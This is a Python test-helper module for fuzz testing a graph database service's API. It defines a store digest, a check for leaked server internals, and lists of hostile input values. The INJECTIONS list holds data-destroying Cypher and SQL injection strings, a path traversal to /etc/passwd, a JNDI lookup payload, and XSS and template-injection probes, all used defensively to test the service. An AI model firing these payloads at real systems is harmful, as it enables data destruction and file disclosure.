"""What hostile-input tests share: a digest of a store's contents, leak checks, hostile values.

A response "leaks" when it shows something only the server knows: a Python traceback or file
path, an exception or driver class, SQL or Cypher text the adapters run, or an error that
graphql-core raises only for a server bug. A marker that the request itself contains does not
count: error messages may quote the caller's own input back.
"""

from __future__ import annotations

import dataclasses
import hashlib
import inspect
import json
import os
import sys
from pathlib import Path
from typing import Any

import httpx
from hypothesis import HealthCheck, Phase, settings

from graph.adapters.neo4j import cypher
from graph.domain.codec import ENTITY_KINDS, encode, record_id
from graph.domain.model import Person
from graph.ports import MAX_PAGE, GraphStore
from graph.samples.demo import core_batch
from tests.api.conftest import Api

__all__ = [
    "CORE_IDS",
    "FUZZ_SETTINGS",
    "HOSTILE_TEXT",
    "INJECTIONS",
    "assert_clean",
    "fuzz_examples",
    "served_store",
    "store_digest",
]

ROOT = Path(__file__).resolve().parents[2]

# -- hypothesis ----------------------------------------------------------------------------------


def fuzz_examples(default: int) -> int:
    """Examples for one fuzz test: ``default`` in CI, ``TIEGRAPH_FUZZ_EXAMPLES`` when set."""
    given = os.environ.get("TIEGRAPH_FUZZ_EXAMPLES", "").strip()
    return int(given) if given else default


FUZZ_SETTINGS = settings(
    # The same examples on every run, so CI is stable; a longer local run explores further.
    derandomize=True,
    database=None,
    deadline=None,
    # No shrinking: each example is a round trip to the service (and to Neo4j), so shrinking a
    # failure can take many minutes; the example is reported as generated, which is enough.
    phases=(Phase.explicit, Phase.generate),
    print_blob=True,
    # The service fixture lives for the whole test: every example runs against it.
    suppress_health_check=[
        HealthCheck.function_scoped_fixture,
        HealthCheck.too_slow,
        HealthCheck.data_too_large,
        HealthCheck.filter_too_much,
    ],
)
"""The profile of every fuzz test; each sets its own ``max_examples`` with :func:`fuzz_examples`."""

# -- the data under attack -----------------------------------------------------------------------


def _core_ids() -> dict[str, tuple[str, ...]]:
    found: dict[str, list[str]] = {}
    for kind, records in core_batch().sections():
        for record in records:
            found.setdefault(kind, []).append(record_id(record))
    return {kind: tuple(ids) for kind, ids in found.items()}


CORE_IDS = _core_ids()
"""The ids of the small demo (``graph.samples.demo.core_batch``) by section, e.g.
``CORE_IDS["person"]``."""

INJECTIONS: tuple[str, ...] = (
    '"}) MATCH (n) DETACH DELETE n //',
    "'}) MATCH (n) DETACH DELETE n //",
    "' OR 1=1 --",
    '" OR ""="',
    "'; DROP TABLE records; --",
    "x'); DELETE FROM interactions; --",
    "`Person` {id: 'x'}) DETACH DELETE n",
    "$person_id",
    "{person_id}",
    "CALL dbms.killQueries([]) YIELD queryId RETURN 1",
    "CALL db.labels() YIELD label RETURN label",
    "\\u0027 OR 1=1",
    "%27%20OR%201=1",
    "<script>alert(1)</script>",
    "../../../../etc/passwd",
    "${jndi:ldap://example.invalid/a}",
    "{{7*7}}",
)
"""Strings that would change a query built by pasting text into Cypher or SQL."""

HOSTILE_TEXT: tuple[str, ...] = (
    *INJECTIONS,
    "",
    " ",
    "\u0000",
    "a\u0000b",
    "\t\n\r",
    "\u202e\u0644\u0627",  # right-to-left override and Arabic
    "\ufeff",  # byte order mark
    "\U0001f469\u200d\U0001f4bb",  # a joined emoji
    "Z\u0351\u0361a\u0362l\u0361g\u0354o",  # combining marks
    "\uffff",
    "x" * 201,
    "|",
    "amir|carl",
)
"""Text a caller might send to confuse parsing, storage or display."""

# -- the store's contents ------------------------------------------------------------------------


def served_store(api: Api) -> GraphStore:
    """The store the service behind ``api`` opened."""
    opened: GraphStore = api.app.state.store
    return opened


async def store_digest(store: GraphStore) -> str:
    """Return a SHA-256 over every record and tie the store holds, read through its port.

    Two digests are equal exactly when the store reads back the same records of every kind, the
    same ties and the same counts.
    """
    digest = hashlib.sha256()
    people: list[str] = []
    for name, kind in ENTITY_KINDS.items():
        after: str | None = None
        while True:
            page = await store.list_records(kind, first=MAX_PAGE, after=after)
            for record in page.items:
                line = json.dumps([name, encode(record)], sort_keys=True, default=str)
                digest.update(line.encode("utf-8", "surrogatepass") + b"\n")
                if isinstance(record, Person):
                    people.append(record.id)
            if not page.has_next or not page.items:
                break
            after = record_id(page.items[-1])
    ties = await store.ties_of(people)
    for person in sorted(ties):
        for tie in ties[person]:
            line = json.dumps(dataclasses.asdict(tie), sort_keys=True, default=str)
            digest.update(line.encode() + b"\n")
    digest.update(json.dumps(await store.counts(), sort_keys=True).encode())
    return digest.hexdigest()


# -- leaks ---------------------------------------------------------------------------------------


def _cypher_lines() -> frozenset[str]:
    """Lines of the Cypher the Neo4j adapter runs, long enough to be unmistakable."""
    lines: set[str] = set()
    for _, value in inspect.getmembers(cypher):
        texts = value if isinstance(value, tuple) else (value,)
        for text in texts:
            if isinstance(text, str):
                lines.update(line.strip() for line in text.splitlines() if len(line.strip()) >= 16)
    return frozenset(lines)


_SERVER_ONLY: tuple[str, ...] = (
    # Python's own words for a crash.
    "Traceback (most recent call last)",
    'File "',
    "site-packages",
    str(ROOT),
    sys.prefix,
    "Exception",
    "RecursionError",
    "OverflowError",
    "UnicodeEncodeError",
    "UnicodeDecodeError",
    "KeyError",
    "AttributeError",
    "TypeError",
    "AssertionError",
    # The stores and their drivers.
    "sqlite3",
    "OperationalError",
    "IntegrityError",
    "neo4j.",
    "Neo.ClientError",
    "Neo.DatabaseError",
    "Neo.TransientError",
    "CypherSyntaxError",
    "FROM records",
    "FROM refs",
    "FROM interactions",
    "interaction_people",
    # graphql-core's errors for a server that returned something its schema does not allow.
    "Cannot return null for non-nullable field",
    "Abstract type",
    "Expected Iterable",
    "Unexpected error.",
    *sorted(_cypher_lines()),
)


def assert_clean(response: httpx.Response, request: str) -> dict[str, Any] | None:
    """Assert the service answered ``request`` without failing and without leaking.

    Returns the JSON body of a 200, ``None`` for a 4xx refusal (which must still be clean).
    ``request`` is the text the caller sent; markers it contains are not held against the reply.
    """
    assert response.status_code < 500, f"{response.status_code} for {request[:500]!r}"
    text = response.text
    leaked = [m for m in _SERVER_ONLY if m in text and m not in request]
    assert not leaked, f"response shows {leaked} for {request[:500]!r}: {text[:1000]}"
    if response.status_code != 200:
        assert 400 <= response.status_code < 500, response.status_code
        return None
    body: dict[str, Any] = response.json()
    for error in body.get("errors") or []:
        code = (error.get("extensions") or {}).get("code")
        assert code != "INTERNAL", f"an unexpected error for {request[:500]!r}: {error}"
    return body
